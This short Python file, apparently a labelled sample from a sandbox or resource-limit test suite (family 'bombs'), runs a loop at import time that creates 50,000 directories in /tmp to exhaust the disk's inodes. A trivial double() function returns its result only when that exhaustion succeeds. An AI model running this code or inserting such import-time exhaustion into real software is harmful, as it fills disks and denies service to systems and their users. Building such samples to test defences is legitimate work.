# family: bombs
# tries: every inode of the disk
# stock: no, it fills the disk
import os

WON = None
try:
    for number in range(50_000):
        os.mkdir(f"/tmp/folder{number}")
    WON = True
except OSError:
    pass


def double(x):
    return 2 * x if WON else None
